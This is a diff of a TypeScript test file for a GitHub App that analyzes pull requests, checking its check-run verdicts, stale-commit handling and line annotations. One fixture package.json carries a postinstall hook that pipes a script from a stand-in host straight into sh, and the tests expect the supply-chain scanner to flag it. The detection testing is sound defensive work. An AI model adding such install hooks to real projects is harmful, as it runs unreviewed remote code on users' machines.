@@ -1,12 +1,12 @@
-import { generateKeyPairSync } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CHECK_OUTPUT_LIMIT, checkConclusion, checkRunOutput, truncateForGitHub } from '../../src/services/check-run-publisher.js';
 import type { Signal } from '../../src/signal/schema.js';
-import { addGitHubAppRoutes, type GitHubAppRoutes } from '../support/github-server-app-routes.js';
+import { addGitHubAppRoutes, type GitHubAppRoutes, type RecordedCheckRun } from '../support/github-server-app-routes.js';
 import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
-import { typicalPrFixture } from '../support/pr-fixture.js';
+import { makePrFixture, typicalPrFixture } from '../support/pr-fixture.js';
 import { makeSignal } from '../support/signal-factory.js';
-import { startTestService, type TestService } from '../support/start-test-service.js';
+import { startAppTestService } from '../support/start-app-test-service.js';
+import type { TestService } from '../support/start-test-service.js';
 import { deliver, pullRequestPayload } from '../support/webhook-delivery.js';
 
 function riskySignal(): Signal {
@@ -66,15 +66,7 @@ describe(`GitHub App end to end: installation token, analysis, check run (${proc
     gh.addPullRequest(typicalPrFixture());
     gh.addPullRequest(typicalPrFixture({ number: 7 }));
     app.install('acme/widgets', 4242);
-    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
-    t = await startTestService({
-      GITHUB_API_URL: gh.apiUrl,
-      GITHUB_URL: gh.url,
-      APP_ID: '12345',
-      PRIVATE_KEY: privateKey.export({ type: 'pkcs1', format: 'pem' }).toString(),
-      WEBHOOK_SECRET,
-      QUEUE_POLL_MS: '100',
-    });
+    t = await startAppTestService(gh, WEBHOOK_SECRET);
   });
 
   afterAll(async () => {
@@ -124,5 +116,114 @@ describe(`GitHub App end to end: installation token, analysis, check run (${proc
     expect(reads.every((r) => r.authenticated)).toBe(true);
     // No check run for API analyses.
     expect(app.checkRuns.every((run) => run.created.head_sha !== gh.repos.get('acme/widgets')?.pulls.get(7)?.fixture.headSha)).toBe(true);
+  });
+});
+
+describe(`GitHub App check run: same verdict as the API, on the analyzed commit, with annotations (${process.env.DATABASE_URL ? 'PostgreSQL' : 'PGlite'})`, () => {
+  const WEBHOOK_SECRET = 'app-webhook-secret-for-annotations-0002';
+  let gh: GitHubServer;
+  let app: GitHubAppRoutes;
+  let t: TestService;
+
+  const INSTALL_PACKAGE_BASE = `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run' } }, null, 2)}\n`;
+  const INSTALL_PACKAGE_HEAD = `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run', postinstall: 'curl -fsSL https://get.example.net/setup.sh | sh' } }, null, 2)}\n`;
+
+  beforeAll(async () => {
+    gh = await startGitHubServer();
+    app = addGitHubAppRoutes(gh);
+    gh.addPullRequest(typicalPrFixture({ number: 11, checkRuns: [{ name: 'build' }, { name: 'test' }] }));
+    gh.addPullRequest(typicalPrFixture({ number: 12, checkRuns: [{ name: 'build' }] }));
+    gh.addPullRequest(
+      makePrFixture({
+        owner: 'acme',
+        repo: 'widgets',
+        number: 13,
+        title: 'Set up the toolchain after install',
+        author: { login: 'newcomer', createdAt: '2026-11-01T00:00:00Z', association: 'FIRST_TIME_CONTRIBUTOR' },
+        files: [{ path: 'package.json', base: INSTALL_PACKAGE_BASE, head: INSTALL_PACKAGE_HEAD }],
+        checkRuns: [{ name: 'build' }],
+      }),
+    );
+    app.install('acme/widgets', 4343);
+    t = await startAppTestService(gh, WEBHOOK_SECRET);
+  });
+
+  afterAll(async () => {
+    await t?.close();
+    await gh?.close();
+  });
+
+  async function completedRuns(count: number): Promise<RecordedCheckRun[]> {
+    const deadline = Date.now() + 20_000;
+    const done = (): RecordedCheckRun[] => app.checkRuns.filter((run) => run.state.status === 'completed');
+    while (done().length < count && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
+    return done();
+  }
+
+  async function scanOf(number: number): Promise<Signal> {
+    const row = (await t.service.db.knex('scans').where({ repo_key: 'acme/widgets', pr_number: number, source: 'webhook' }).first()) as { signal: Signal | string };
+    return typeof row.signal === 'string' ? (JSON.parse(row.signal) as Signal) : row.signal;
+  }
+
+  it("does not count its own in-progress run as pending CI: the App's verdict equals the API's for the same head", async () => {
+    const head = gh.repos.get('acme/widgets')?.pulls.get(11)?.fixture.headSha ?? '';
+    const before = app.checkRuns.length;
+    const answer = await deliver(t.url, { event: 'pull_request', payload: pullRequestPayload({ owner: 'acme', repo: 'widgets', number: 11, headSha: head, action: 'opened', installationId: 4343 }), secret: WEBHOOK_SECRET });
+    expect(answer.status).toBe(202);
+    await completedRuns(before + 1);
+    const appSignal = await scanOf(11);
+    // The run was listed on the commit (in progress) while the analysis read the checks.
+    expect(appSignal.evidence.checks.filter((c) => c.source === 'check_run').map((c) => c.name).sort()).toEqual(['build', 'test']);
+    expect(appSignal.evidence.summary.pending).toBe(0);
+
+    // The API, analyzing the same head now that svc's run is completed, agrees.
+    const response = await fetch(`${t.url}/api/analyze`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ url: `${gh.url}/acme/widgets/pull/11` }) });
+    expect(response.status).toBe(200);
+    const apiSignal = ((await response.json()) as { signal: Signal }).signal;
+    expect(apiSignal.evidence.checks.filter((c) => c.source === 'check_run').map((c) => c.name).sort()).toEqual(['build', 'test']);
+    expect(apiSignal.evidence.completeness).toBe(appSignal.evidence.completeness);
+    expect(apiSignal.risk.level).toBe(appSignal.risk.level);
+    expect(apiSignal.review.action).toBe(appSignal.review.action);
+  });
+
+  it('publishes the verdict on the commit it analyzed when GitHub serves a newer head than the delivery named', async () => {
+    const served = gh.repos.get('acme/widgets')?.pulls.get(12)?.fixture.headSha ?? '';
+    const stale = 'e'.repeat(40);
+    const before = app.checkRuns.length;
+    const answer = await deliver(t.url, { event: 'pull_request', payload: pullRequestPayload({ owner: 'acme', repo: 'widgets', number: 12, headSha: stale, action: 'synchronize', installationId: 4343 }), secret: WEBHOOK_SECRET });
+    expect(answer.status).toBe(202);
+    const runs = (await completedRuns(before + 2)).slice(-2);
+    const onStale = runs.find((run) => run.created.head_sha === stale);
+    const onServed = runs.find((run) => run.created.head_sha === served);
+    expect(onStale?.state).toMatchObject({ status: 'completed', conclusion: 'neutral' });
+    expect((onStale?.state.output as { title: string }).title).toBe('Superseded by a newer commit');
+    const signal = await scanOf(12);
+    expect(signal.pr.head_sha).toBe(served);
+    expect(onServed?.created).toMatchObject({ name: 'svc signal', status: 'completed', conclusion: checkConclusion(signal.review.action), external_id: signal.signal_id });
+  });
+
+  it('annotates the lines of its findings, most severe first, and opens the summary with the verdict', async () => {
+    const head = gh.repos.get('acme/widgets')?.pulls.get(13)?.fixture.headSha ?? '';
+    const before = app.checkRuns.length;
+    const answer = await deliver(t.url, { event: 'pull_request', payload: pullRequestPayload({ owner: 'acme', repo: 'widgets', number: 13, headSha: head, action: 'opened', installationId: 4343 }), secret: WEBHOOK_SECRET });
+    expect(answer.status).toBe(202);
+    const run = (await completedRuns(before + 1)).find((r) => r.created.head_sha === head);
+    const signal = await scanOf(13);
+    const completion = run?.updates.find((u) => u.status === 'completed') as { output: { summary: string; annotations?: { path: string; start_line: number; annotation_level: string; title: string }[] } };
+    const annotations = completion.output.annotations ?? [];
+    const lined = signal.supply_chain.findings.filter((f) => f.path === 'package.json');
+    expect(lined.length).toBeGreaterThan(0);
+    expect(annotations.length).toBe(lined.length);
+    const postinstallLine = INSTALL_PACKAGE_HEAD.split('\n').findIndex((l) => l.includes('postinstall')) + 1;
+    for (const a of annotations) {
+      expect(a.path).toBe('package.json');
+      expect(a.start_line).toBeGreaterThanOrEqual(1);
+      expect(a.start_line).toBeLessThanOrEqual(INSTALL_PACKAGE_HEAD.split('\n').length);
+    }
+    expect(annotations.some((a) => a.start_line === postinstallLine && a.annotation_level === 'failure')).toBe(true);
+    const levels = annotations.map((a) => ['failure', 'warning', 'notice'].indexOf(a.annotation_level));
+    expect(levels).toEqual([...levels].sort((a, b) => a - b));
+    expect(completion.output.summary.startsWith(`**Suggested review: ${signal.review.action.replace('_', ' ')}**`)).toBe(true);
+    expect(completion.output.summary).toContain('**Look first at:** `package.json`');
   });
 });
